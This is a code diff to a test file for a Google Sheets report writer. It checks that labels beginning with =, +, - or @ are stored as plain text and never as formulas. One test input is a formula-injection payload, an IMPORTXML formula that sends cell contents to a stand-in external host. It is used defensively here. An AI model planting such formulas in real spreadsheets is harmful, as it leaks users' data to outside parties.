@@ -1,11 +1,13 @@
 /**
- * The SpreadsheetApp writer's round trip: the model written by `replaceReport` through the
- * Apps Script stand-ins, and read back from them in the model's terms. Apps Script gives text
- * cells the "@" format (so nothing typed is reparsed), shows a number format on numbers only,
- * writes a blank for null and the default width (100 px) where the model has none.
+ * The SpreadsheetApp writer's round trip: the model written through the Platform's Apps Script
+ * implementation and the stand-ins, and read back from them in the model's terms. Text cells get
+ * the "@" format (so nothing typed is reparsed); text starting with =, +, - or @ is entered with
+ * a leading apostrophe instead (the documented way to force text); a number format shows on
+ * numbers only; a blank for null and the default width (100 px) where the model has none.
  */
 import { afterEach, describe, expect, it } from 'vitest'
-import { replaceReport } from '../../addon/src/report/write'
+import { appsScriptPlatform } from '../../addon/src/platform/apps-script'
+import { replaceReport } from '../../addon/src/report/swap'
 import { type Box, buildSheets, hexOf, SHEETS_DEFAULTS, type SheetModel } from '../../sheets/index'
 import { FIXTURE_TIME, fixtureReport } from '../support/sheet-fixture'
 import { CallLog, tracked } from './apps-script/calls'
@@ -51,7 +53,8 @@ function readBack(sheet: FakeSheet) {
     sheet.grid.map((row) => row.map(read))
   for (const row of sheet.grid) {
     for (const cell of row) {
-      if (typeof cell.value !== 'number') expect(cell.format).toBe(TEXT)
+      const escaped = typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value)
+      if (typeof cell.value !== 'number') expect(cell.format).toBe(escaped ? AUTOMATIC : TEXT)
       expect(cell.formula).toBe('')
     }
   }
@@ -139,7 +142,7 @@ describe('replaceReport', () => {
 
   it('carries every value, format, note, bold, colour, width, rule, chart and mark', () => {
     const { spreadsheet } = spreadsheetWithUserSheets()
-    replaceReport(spreadsheet.fakeTracked() as never, sheets, 'run1')
+    replaceReport(appsScriptPlatform().workbook, sheets, 'run1')
     const names = spreadsheet.sheets.map((s) => s.name)
     expect(names).toEqual([
       'Responses',
@@ -162,10 +165,11 @@ describe('replaceReport', () => {
 
   it('keeps text that looks like a formula or a number as text, numbers formatted', () => {
     const { spreadsheet } = spreadsheetWithUserSheets()
-    replaceReport(spreadsheet.fakeTracked() as never, sheets, 'run1')
+    replaceReport(appsScriptPlatform().workbook, sheets, 'run1')
     const rating = spreadsheet.sheets[2]
     expect(rating.grid[0][0]).toMatchObject({ value: 'Rank', format: '@' })
-    expect(rating.grid[1][2]).toMatchObject({ value: '=1+1', formula: '', format: '@' })
+    // Entered as "'=1+1": shown as =1+1, text, never a formula.
+    expect(rating.grid[1][2]).toMatchObject({ value: '=1+1', formula: '', format: AUTOMATIC })
     const n = rating.grid[0].findIndex((cell) => cell.value === 'Respondents')
     expect(rating.grid[1][n]).toMatchObject({ value: 200, format: '0' })
     expect(rating.metadata.map((m) => [m.key, JSON.parse(m.value).table])).toEqual([
@@ -173,18 +177,34 @@ describe('replaceReport', () => {
     ])
   })
 
+  it('keeps labels starting with =, +, - or @ exactly as text, never formulas', () => {
+    const { spreadsheet } = spreadsheetWithUserSheets()
+    const report = fixtureReport()
+    const labels = [
+      '=IMPORTXML("https://x.example/?"&A1, "//a")',
+      '+7 701 000 00 00',
+      '-',
+      '@everyone',
+    ]
+    const rating = report.tables[0]
+    rating.rows = labels.map((service, i) => ({ ...rating.rows[0], service, rank: i + 1 }))
+    replaceReport(appsScriptPlatform().workbook, buildSheets(report, { generatedAt: '' }), 'r')
+    const sheet = spreadsheet.sheets[2]
+    const column = sheet.grid[0].findIndex((cell) => cell.value === 'Service')
+    expect(sheet.grid.slice(1, 5).map((row) => row[column])).toEqual(
+      labels.map((value) => expect.objectContaining({ value, formula: '' })),
+    )
+    expect(spreadsheet.sheets.flatMap((s) => s.grid.flat()).filter((c) => c.formula)).toEqual([])
+  })
+
   it('writes the sheets with calls that do not grow with their rows', () => {
     const count = (rows: number) => {
-      const { spreadsheet, log } = spreadsheetWithUserSheets()
+      const { log } = spreadsheetWithUserSheets()
       const report = fixtureReport()
       const rating = report.tables[0]
       rating.rows = Array.from({ length: rows }, (_, i) => ({ ...rating.rows[i % 4], rank: i + 1 }))
       log.reset()
-      replaceReport(
-        spreadsheet.fakeTracked() as never,
-        buildSheets(report, { generatedAt: '' }),
-        'r',
-      )
+      replaceReport(appsScriptPlatform().workbook, buildSheets(report, { generatedAt: '' }), 'r')
       return log.tally()
     }
     expect(count(400)).toEqual(count(4))
